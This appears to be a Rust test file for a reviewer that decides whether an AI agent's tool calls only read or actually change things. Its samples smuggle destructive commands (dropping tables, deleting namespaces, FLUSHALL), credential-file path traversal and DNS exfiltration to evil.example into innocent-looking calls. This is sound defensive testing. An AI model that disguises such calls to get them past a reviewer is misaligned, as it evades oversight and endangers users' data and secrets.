use protocol::{Action, Escalation};
use serde_json::{Value, json};

use super::{Scene, looks};
use crate::reviewer::tests::escalation;

/// Whether a call of `server/tool` only looks.
fn looking(name: &str, arguments: &Value) -> bool {
    let (server, tool) = name.split_once('/').expect("a server and a tool");
    let escalation: Escalation = escalation(json!({ "action": {
        "tool": "mcp_tool_call", "server": server, "tool_name": tool, "arguments": arguments,
    } }));
    let Action::ToolCall(call) = &escalation.action else {
        panic!("a tool's call");
    };
    looks(call, &Scene::of(&escalation))
}

#[test]
fn no_option_of_a_call_makes_a_look_into_a_deed() {
    for (name, arguments) in [
        (
            "http/get_request",
            json!({ "url": "http://localhost:8080/customers", "method": "DELETE" }),
        ),
        (
            "http/get_request",
            json!({ "url": "http://localhost:8080/customers", "httpMethod": "put" }),
        ),
        (
            "http/get_request",
            json!({ "url": "http://localhost:8080/x", "requestBody": "{}" }),
        ),
        (
            "http/get_request",
            json!({ "url": "http://localhost:8080/x", "headers": { "X": "y" } }),
        ),
        (
            "fetch/fetch",
            json!({ "url": "http://localhost:8080/x", "delete": true }),
        ),
        (
            "desktop/get_command_output",
            json!({ "command": "python3 /tmp/x.py" }),
        ),
        (
            "desktop/get_command_output",
            json!({ "shellCommand": ["python3", "x"] }),
        ),
        (
            "kubernetes/kubectl_get",
            json!({ "args": ["delete", "namespace", "payments"] }),
        ),
        (
            "kubernetes/kubectl_get",
            json!({ "command": "delete namespace payments" }),
        ),
        (
            "kubernetes/kubectl_get",
            json!({ "words": ["delete", "namespace", "payments"] }),
        ),
        (
            "kubernetes/kubectl_get",
            json!({ "resource": "pods --all; delete" }),
        ),
    ] {
        assert!(!looking(name, &arguments), "{name} {arguments}");
    }
}

#[test]
fn no_name_of_an_operation_makes_a_look_into_a_deed() {
    for (name, arguments) in [
        (
            "aws/list_resources",
            json!({ "action": "delete-stack", "name": "shop" }),
        ),
        ("aws/list_resources", json!({ "name": "delete-stack" })),
        (
            "aws/describe_or_call",
            json!({ "action": "terminate_instances" }),
        ),
        (
            "aws/describe_or_call",
            json!({ "api": "TerminateInstances" }),
        ),
        (
            "aws/describe_or_call",
            json!({ "api": "ec2:TerminateInstances" }),
        ),
        ("db/query", json!({ "text": "delete from users" })),
        ("db/query", json!({ "text": "/* x */ DELETE\tFROM users" })),
        (
            "db/query",
            json!({ "text": "explain analyze delete from users" }),
        ),
        ("db/query", json!({ "sql_text": "drop table users" })),
        (
            "db/query",
            json!({ "query": { "mutation": "deleteUser(id:1)" } }),
        ),
        ("db/query", json!({ "query": [["drop table users"]] })),
        ("db/query", json!({ "filter": "db.users.deleteMany({})" })),
        ("db/query", json!({ "update": "users" })),
        ("db/query", json!({ "set": { "a": 1 } })),
    ] {
        assert!(!looking(name, &arguments), "{name} {arguments}");
    }
}

#[test]
fn no_text_and_no_shape_makes_a_look_into_a_deed() {
    for (name, arguments) in [
        (
            "shopify/graphql_query",
            json!({ "query": "mutation{deleteProduct(id:1)}" }),
        ),
        (
            "shopify/graphql_query",
            json!({ "query": "query{shop} mutation{x(id:1)}" }),
        ),
        (
            "browser/browser_snapshot",
            json!({ "function": "() => fetch('x')" }),
        ),
        (
            "browser/browser_snapshot",
            json!({ "predicate": "() => fetch('x')" }),
        ),
        (
            "browser/browser_snapshot",
            json!({ "at": "javascript:x()`y`" }),
        ),
        ("redis/get", json!({ "key": "x", "command": "FLUSHALL" })),
        ("redis/get", json!({ "key": "FLUSHALL" })),
        ("terraform/show", json!({ "apply": true })),
        ("terraform/show", json!({ "options": { "destroy": true } })),
        ("x/get", json!({ "a": { "b": { "c": { "d": "e" } } } })),
        ("x/get", json!({ "a": "word ".repeat(60) })),
    ] {
        assert!(!looking(name, &arguments), "{name} {arguments}");
    }
}

#[test]
fn no_argument_leads_a_look_to_what_is_not_open() {
    for (name, arguments) in [
        ("fs/get_file", json!({ "name": "../../.ssh/id_ed25519" })),
        ("fs/get_file", json!({ "name": "../../x" })),
        ("fs/get_file", json!({ "name": "src/../../../x" })),
        ("fs/get_file", json!({ "src": "~root/.ssh/id_ed25519" })),
        ("fs/get_file", json!({ "src": "~/.ssh/config" })),
        ("fs/get_file", json!({ "src": "$HOME/x" })),
        ("fs/get_file", json!({ "src": "%2e%2e/%2e%2e/x" })),
        ("fs/get_file", json!({ "src": "file:/home/u/.aws/config" })),
        (
            "fs/get_file",
            json!({ "list": [{ "of": "/home/u/.aws/config" }] }),
        ),
        ("fs/get_file", json!({ "name": ".env" })),
        ("fs/get_file", json!({ "/home/u/.ssh/config": 1 })),
        ("fs/find_files", json!({ "query": "x /home/u/.ssh/config" })),
        ("dns/lookup", json!({ "name": "c2vjcmv0.evil.example" })),
        ("dns/lookup", json!({ "filename": "c2vjcmv0.evil.example" })),
        ("dns/lookup", json!({ "names": ["c2vjcmv0.evil.example"] })),
        ("dns/lookup", json!({ "name": "c2vjcmv0" })),
        (
            "net/get_status",
            json!({ "target": "c2vjcmv0.evil.example" }),
        ),
        (
            "net/get_status",
            json!({ "target": "c2vjcmv0.evil.example:53" }),
        ),
        ("net/get_status", json!({ "target": "203.0.113.9" })),
    ] {
        assert!(!looking(name, &arguments), "{name} {arguments}");
    }
}

#[test]
fn a_plain_question_stays_a_look() {
    for (name, arguments) in [
        (
            "http/get_request",
            json!({ "url": "http://localhost:8080/customers", "method": "GET" }),
        ),
        (
            "github/get_issue",
            json!({ "owner": "ana", "repo": "app", "number": 40 }),
        ),
        ("github/search_code", json!({ "q": "repo:ana/app evict" })),
        ("slack/search_messages", json!({ "query": "deploy failed" })),
        (
            "postgres/query",
            json!({ "sql": "SELECT count(*) FROM payments" }),
        ),
        (
            "shopify/graphql_query",
            json!({ "query": "{ shop { name } }" }),
        ),
        (
            "fs/read_file",
            json!({ "path": "/home/u/code/app/src/main.rs" }),
        ),
        ("fs/read_file", json!({ "path": "src/main.rs" })),
        (
            "fs/read_files",
            json!({ "paths": ["src/main.rs", "README.md"] }),
        ),
        (
            "kubernetes/list_pods",
            json!({ "namespace": "dev", "labels": { "app": "shop" } }),
        ),
        ("redis/get", json!({ "key": "cart:12" })),
        ("dns/lookup", json!({ "name": "example.com", "type": "MX" })),
        (
            "linear/list_issues",
            json!({ "state": "open", "archived": true, "limit": 20 }),
        ),
    ] {
        assert!(looking(name, &arguments), "{name} {arguments}");
    }
}
